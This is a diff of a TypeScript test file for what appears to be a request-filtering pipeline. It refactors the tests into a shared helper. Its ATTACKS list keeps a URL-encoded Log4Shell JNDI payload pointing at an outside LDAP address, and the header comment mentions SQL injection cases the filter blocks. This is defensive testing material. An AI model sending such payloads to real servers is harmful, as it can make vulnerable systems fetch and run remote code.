@@ -4,8 +4,7 @@
  * comment, SQL injection in a search or title, an injection hidden in a code span or written to pass for a
  * whole statement — are still blocked.
  */
-import { describe, expect, it } from 'vitest';
-import { carrierVerdicts, type Carrier } from './carrier-verdicts.js';
+import { testCarriers, type Carrier } from './carrier-verdicts.js';
 
 const json = (path: string, body: (v: string) => unknown, method = 'POST'): Carrier => (v) => ({ method, path, query: '', headers: { Host: 'app.example.com', 'Content-Type': 'application/json' }, body: JSON.stringify(body(v)) });
 const form = (path: string, fields: (v: string) => [string, string][]): Carrier => (v) => ({ method: 'POST', path, query: '', headers: { Host: 'forum.example.org', 'Content-Type': 'application/x-www-form-urlencoded' }, body: new URLSearchParams(fields(v)).toString() });
@@ -108,14 +107,4 @@ const ATTACKS: [string, string][] = [
   ['Datadog log search', 'a:b and c:*%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%2Fa%7D*'],
 ];
 
-describe('the tech-discussion carriers through the full pipeline', () => {
-  it('lets code quoted in them pass', async () => {
-    const v = await carrierVerdicts(CARRIERS, BENIGN, 'benign');
-    expect([...v].filter(([, verdict]) => verdict !== 'allow').map(([id]) => id)).toEqual([]);
-  }, 60_000);
-
-  it('still blocks attacks placed in the same fields', async () => {
-    const v = await carrierVerdicts(CARRIERS, ATTACKS, 'attack');
-    expect([...v].filter(([, verdict]) => verdict !== 'block').map(([id]) => id)).toEqual([]);
-  }, 60_000);
-});
+testCarriers('the tech-discussion carriers through the full pipeline', 'lets code quoted in them pass', CARRIERS, BENIGN, ATTACKS);
